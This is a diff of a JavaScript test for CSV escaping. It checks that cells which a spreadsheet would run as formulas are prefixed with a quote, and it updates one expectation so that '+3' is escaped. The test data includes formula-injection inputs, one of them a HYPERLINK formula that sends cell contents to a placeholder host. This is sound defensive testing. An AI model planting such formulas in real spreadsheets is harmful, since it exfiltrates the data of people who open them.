@@ -12,7 +12,7 @@ test('text that a spreadsheet would run as a formula stays text, and numbers sta
     assert.equal(csvLine([text]), `'${text}\r\n`);
   assert.equal(csvLine(['\t=1', '\r=1']), `'\t=1,"'\r=1"\r\n`);
   assert.equal(csvLine(['=HYPERLINK("http://x/"&A1)']), '"\'=HYPERLINK(""http://x/""&A1)"\r\n');
-  assert.equal(csvLine(['-0.5', '+3', -7, -8n]), '-0.5,+3,-7,-8\r\n');
+  assert.equal(csvLine(['-0.5', '+3', -7, -8n]), "-0.5,'+3,-7,-8\r\n");
   // Letters in the middle, and addresses, are as they were.
   assert.equal(csvLine(['a=b', 't1abc', 'u1xyz', '0xAb']), 'a=b,t1abc,u1xyz,0xAb\r\n');
 });
